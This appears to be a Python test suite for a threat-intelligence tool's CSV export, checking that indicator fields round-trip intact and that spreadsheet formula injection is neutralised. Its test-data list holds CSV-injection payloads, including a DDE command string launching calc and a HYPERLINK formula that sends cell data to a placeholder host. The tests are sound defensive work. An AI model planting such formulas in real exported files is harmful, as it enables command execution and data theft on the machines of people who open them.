"""The table of indicators: read back as it was, and no formula to any spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from stillwatch.sharing.outgoing.table import COLUMNS, guarded, read, table, unguarded
from tests.sharing.drafts_here import PATTERNS, draft, of

TEXT = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), max_size=30)
FORMULAS = [
    "=1+1", "+1", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "＝1", "|x", "%0A",
    "'=1", "=HYPERLINK(\"http://a.example?\"&A1)", "-", "＠x",
]  # fmt: skip


def row(kind: str = "domain-name") -> dict[str, str]:
    return next(one for one in read(table(draft()["objects"])) if one["type"] == kind)


def test_rows_are_what_the_log_s_indicators_are() -> None:
    assert row() == {
        "type": "domain-name", "value": "fast-mailer.example", "actor": "Unnamed operator 11aa22bb", "confidence": "72",
        "valid_from": "2026-10-01T00:00:00.000Z", "valid_until": "2027-02-01T00:00:00.000Z", "source": "Example AI",
        "tlp": "TLP:AMBER", "revoked": "false", "id": row()["id"],
        "description": "11 accounts of the campaign show it, 0 others of 1,180 do (purity 1.000).",
    }  # fmt: skip
    assert len(read(table(draft()["objects"]))) == len(PATTERNS)


@given(st.lists(TEXT, min_size=1, max_size=5))
@settings(max_examples=60, deadline=None)
def test_values_are_read_back_as_they_were(values: list[str]) -> None:
    made = draft()
    made["objects"] = [one for one in made["objects"] if one["type"] != "indicator"] + [
        {**of(draft(), "indicator")[0], "description": value, "pattern": "[x-stillwatch:template = 't']"}
        for value in values
    ]
    data = table(made["objects"])
    assert [one["description"] for one in read(data)] == values
    text = data.decode()
    assert text.startswith(",".join(f'"{name}"' for name in COLUMNS) + "\r\n") and text.endswith("\r\n")


@given(TEXT)
@settings(max_examples=200, deadline=None)
def test_no_cell_begins_as_a_formula_and_none_is_lost(value: str) -> None:
    cell = guarded(value)
    assert unguarded(cell) == value
    assert not cell.lstrip().startswith(("=", "+", "-", "@"))


@pytest.mark.parametrize("value", FORMULAS)
def test_formulas_are_text(value: str) -> None:
    made = draft()
    of(made, "indicator")[0]["description"] = value
    (cells,) = [one for one in csv.reader(io.StringIO(table(made["objects"]).decode(), newline="")) if value in one[-1]]
    assert cells[-1] == "'" + value and read(table(made["objects"]))[0]["description"] == value


def test_every_cell_is_quoted_so_that_a_semicolon_divides_nothing() -> None:
    made = draft()
    of(made, "indicator")[0]["description"] = 'a;=1+1;"b"'
    assert b'"a;=1+1;""b"""' in table(made["objects"])
